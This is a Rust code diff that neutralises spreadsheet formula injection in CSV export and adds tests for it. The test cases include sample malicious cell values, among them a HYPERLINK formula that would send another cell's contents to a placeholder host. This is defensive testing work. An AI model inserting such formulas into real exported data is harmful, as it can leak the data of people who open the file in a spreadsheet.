@@ -12,11 +12,31 @@ pub(crate) trait CsvRow {
     fn cells(&self) -> Vec<String>;
 }
 
+/// Whether a spreadsheet would read `cell` as a formula (or, after a leading tab or
+/// carriage return, might): text a rep typed must never run in the manager's Excel.
+fn looks_like_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell)
+}
+
+/// `-12`, `+3.50`: a signed number is a number, not a formula, and stays one.
+fn is_plain_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let mut parts = digits.splitn(2, '.');
+    let whole = parts.next().unwrap_or_default();
+    let all_digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
+    all_digits(whole) && parts.next().is_none_or(all_digits)
+}
+
 fn escape(cell: &str) -> String {
+    let cell = if looks_like_formula(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    };
     if cell.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", cell.replace('"', "\"\""))
     } else {
-        cell.to_owned()
+        cell.into_owned()
     }
 }
 
@@ -63,5 +83,28 @@ mod tests {
         assert_eq!(escape("a,b"), "\"a,b\"");
         assert_eq!(escape("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(escape("两行\n文字"), "\"两行\n文字\"");
+    }
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_are_not() {
+        let cases = [
+            ("=1+1", "'=1+1"),
+            ("+86 138", "'+86 138"),
+            ("-x", "'-x"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("\r=1", "\"'\r=1\""),
+            (
+                "=HYPERLINK(\"http://x\"&A2,\"点\")",
+                "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"点\"\")\"",
+            ),
+            ("-120.50", "-120.50"),
+            ("+3", "+3"),
+            ("-", "'-"),
+            ("a=b", "a=b"),
+        ];
+        for (cell, expected) in cases {
+            assert_eq!(escape(cell), expected, "{cell:?}");
+        }
     }
 }
